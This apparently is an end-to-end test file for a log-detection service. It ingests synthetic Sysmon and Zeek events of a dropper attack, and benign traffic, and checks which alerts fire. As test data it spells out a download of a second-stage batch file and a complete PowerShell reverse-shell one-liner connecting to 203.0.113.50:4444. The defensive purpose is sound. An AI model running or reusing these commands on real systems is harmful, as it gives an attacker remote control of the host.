/**
 * End to end through the deployed Worker with the shipped rules bundled from rules/: an attack
 * sequence raises the alerts an analyst needs to follow it, and a day of ordinary traffic raises
 * none. Every event goes through POST /api/v1/ingest exactly as an agent or a Zeek shipper sends it.
 */
import { beforeEach, describe, expect, it } from "vitest";
import { createSysmonGenerator } from "../../bench/sysmon-events.ts";
import { agentToken, call, ingest, login } from "../support/workers/api.ts";

const T0 = Date.parse("2026-11-23T09:14:00Z");
const DAY = 86_400_000;
const ATTACKER = "203.0.113.50";
const VICTIM_IP = "10.20.1.23";
const HOME = "C:\\Users\\bob";
const CMD = "C:\\Windows\\System32\\cmd.exe";
const POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const BATCH_PARENT = `${CMD} /c "${HOME}\\Downloads\\invoice-update.bat"`;

const RULES = {
  batchOverHttp: "3ee8c54f-d9f8-46c8-ad25-b1c915fe4e22",
  powershellFromBatch: "753e4a37-d323-41a8-b0c4-79a0b0b31a3e",
  defenderStatusCheck: "5a30b64e-47c0-4a72-9aa3-9e2ae232e497",
  powershellDownload: "f038b153-2e3e-43c3-88dd-e404da237310",
  reverseShell: "9a5fbe6c-9225-434e-8380-ade8c1478497",
};

interface AlertRow {
  id: number;
  rule: { id: string };
  host: string | null;
  level: string;
  count: number;
}

let admin: string;
let agent: string;

beforeEach(async () => {
  admin = await login();
  agent = (await agentToken(admin, "WS23")).token;
});

function utcTime(ts: number): string {
  return new Date(ts).toISOString().replace("T", " ").replace("Z", "");
}

function sysmonProcess(at: number, image: string, commandLine: string, parent: { image: string; commandLine: string }) {
  return {
    Channel: "Microsoft-Windows-Sysmon/Operational",
    EventID: 1,
    Computer: "WS23.corp.example.com",
    UtcTime: utcTime(at),
    ProcessGuid: `{5e1f0a23-6741-6560-${(at % 0xffff).toString(16).padStart(4, "0")}-000000000000}`,
    ProcessId: 4000 + (at % 1000),
    Image: image,
    OriginalFileName: image.endsWith("powershell.exe") ? "PowerShell.EXE" : "Cmd.Exe",
    CommandLine: commandLine,
    CurrentDirectory: `${HOME}\\Downloads\\`,
    User: "CORP\\bob",
    IntegrityLevel: "Medium",
    ParentImage: parent.image,
    ParentCommandLine: parent.commandLine,
  };
}

function zeekHttp(at: number, uri: string, port: number, responder = ATTACKER) {
  return {
    _path: "http",
    ts: at / 1000,
    uid: `C${at.toString(36)}`,
    "id.orig_h": VICTIM_IP,
    "id.orig_p": 49_000 + (at % 1000),
    "id.resp_h": responder,
    "id.resp_p": port,
    method: "GET",
    host: port === 80 ? responder : `${responder}:${port}`,
    uri,
    // A browser's whole string: the bare prefix is Zebrocy's, which SigmaHQ's proxy_ua_malware rule catches.
    user_agent:
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    status_code: 200,
    response_body_len: 2_114,
  };
}

const REVERSE_SHELL =
  "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.50',4444);$stream = $client.GetStream();" +
  "[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){" +
  "$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);" +
  "$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);" +
  "$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()";

function dropperSequence() {
  const batchParent = { image: CMD, commandLine: BATCH_PARENT };
  return [
    zeekHttp(T0, "/invoice-update.bat", 8000),
    sysmonProcess(T0 + 40_000, CMD, BATCH_PARENT, {
      image: "C:\\Windows\\explorer.exe",
      commandLine: "C:\\Windows\\Explorer.EXE",
    }),
    sysmonProcess(
      T0 + 41_000,
      POWERSHELL,
      `powershell.exe -NoProfile -Command "Get-MpComputerStatus | Select-Object RealTimeProtectionEnabled"`,
      batchParent,
    ),
    sysmonProcess(
      T0 + 43_000,
      POWERSHELL,
      `powershell.exe -NoProfile -Command "Invoke-WebRequest -Uri http://${ATTACKER}:8000/stage2.bat -OutFile $env:TEMP\\stage2.bat"`,
      batchParent,
    ),
    zeekHttp(T0 + 43_500, "/stage2.bat", 8000),
    sysmonProcess(T0 + 50_000, POWERSHELL, `powershell.exe -nop -w hidden -c "${REVERSE_SHELL}"`, batchParent),
  ];
}

async function alertsOf(token: string): Promise<AlertRow[]> {
  const rows: AlertRow[] = [];
  let cursor: string | null = null;
  do {
    const query: string = cursor === null ? "limit=200" : `limit=200&cursor=${encodeURIComponent(cursor)}`;
    const res = await call<{ alerts: AlertRow[]; next_cursor: string | null }>(`/api/v1/alerts?${query}`, { token });
    expect(res.status).toBe(200);
    rows.push(...res.body.alerts);
    cursor = res.body.next_cursor;
  } while (cursor);
  return rows;
}

const ruleOf = (alert: AlertRow) => alert.rule.id;

/** A day of ordinary traffic: a workstation fleet's Sysmon log, routine SSH, web and logon noise. */
function benignDay(): Record<string, unknown>[] {
  const sysmon = createSysmonGenerator({ startMs: T0 - DAY }).take(12_000);
  const spacing = DAY / sysmon.length;
  const records: Record<string, unknown>[] = sysmon.map((record, i) => ({
    ...record,
    UtcTime: utcTime(T0 - DAY + Math.round(i * spacing)),
  }));
  for (let hour = 0; hour < 24; hour++) {
    const at = T0 - DAY + hour * 3_600_000;
    const stamp = new Date(at).toISOString();
    const syslogTime = new Date(at).toUTCString().slice(8, 11);
    const clock = stamp.slice(11, 19);
    const day = new Date(at).getUTCDate().toString().padStart(2, " ");
    records.push(
      {
        message: `${syslogTime} ${day} ${clock} web1 sshd[${2000 + hour}]: Accepted publickey for deploy from 10.20.0.5 port ${40_000 + hour} ssh2: ED25519 SHA256:q1w2e3r4t5y6`,
        host: "web1",
      },
      zeekHttp(at + 1_000, "/scripts/logon.bat", 80, "10.20.0.10"),
      zeekHttp(at + 2_000, "/index.html", 8080, "10.20.0.11"),
    );
    if (hour % 6 === 0) {
      records.push(
        {
          message: `${syslogTime} ${day} ${clock} web1 sshd[${3000 + hour}]: Failed password for deploy from 10.20.0.5 port ${41_000 + hour} ssh2`,
          host: "web1",
        },
        {
          Channel: "Security",
          EventID: 4625,
          Computer: "DC01",
          TimeCreated: new Date(at + 5_000).toISOString(),
          TargetUserName: "alice",
          IpAddress: "10.20.1.40",
          LogonType: "3",
          Status: "0xc000006d",
          SubStatus: "0xc000006a",
        },
      );
    }
  }
  return records;
}

describe("the dropper sequence and a benign day through the Worker", () => {
  it("raises an alert for each step of the dropper: fetch, batch-spawned PowerShell, Defender check, download, reverse shell", async () => {
    const res = await ingest(agent, JSON.stringify({ batch_id: "ws23-dropper", events: dropperSequence() }));
    expect(res.status).toBe(200);
    expect(res.body.rejected).toEqual([]);
    expect(res.body.accepted).toBe(6);

    const alerts = await alertsOf(admin);
    const fired = new Set(alerts.map(ruleOf));
    for (const [step, ruleId] of Object.entries(RULES)) {
      expect(fired.has(ruleId), `${step} (${ruleId}) should have raised an alert`).toBe(true);
    }
    expect(res.body.alerts).toBe(alerts.length);
    const fetches = alerts.filter((a) => ruleOf(a) === RULES.batchOverHttp);
    expect(fetches.reduce((sum, a) => sum + a.count, 0)).toBe(2);
    const spawned = alerts.filter((a) => ruleOf(a) === RULES.powershellFromBatch);
    expect(spawned.reduce((sum, a) => sum + a.count, 0)).toBe(3);
    expect(alerts.find((a) => ruleOf(a) === RULES.reverseShell)).toMatchObject({
      host: "WS23.corp.example.com",
      level: "high",
    });
  });

  it("raises no alert over a day of ordinary workstation, SSH, web and logon traffic", async () => {
    const records = benignDay();
    for (let start = 0; start < records.length; start += 1_000) {
      const res = await ingest(
        agent,
        JSON.stringify({ batch_id: `benign-${start}`, events: records.slice(start, start + 1_000) }),
      );
      expect(res.status).toBe(200);
      expect(res.body.rejected).toEqual([]);
      expect(res.body.accepted).toBe(Math.min(1_000, records.length - start));
      expect(res.body.alerts).toBe(0);
    }
    expect(await alertsOf(admin)).toEqual([]);
    const stats = await call<{ total: number }>(
      `/api/v1/events/stats?from=${new Date(T0 - DAY).toISOString()}&to=${new Date(T0).toISOString()}`,
      { token: admin },
    );
    expect(stats.body.total).toBe(records.length);
  });
});
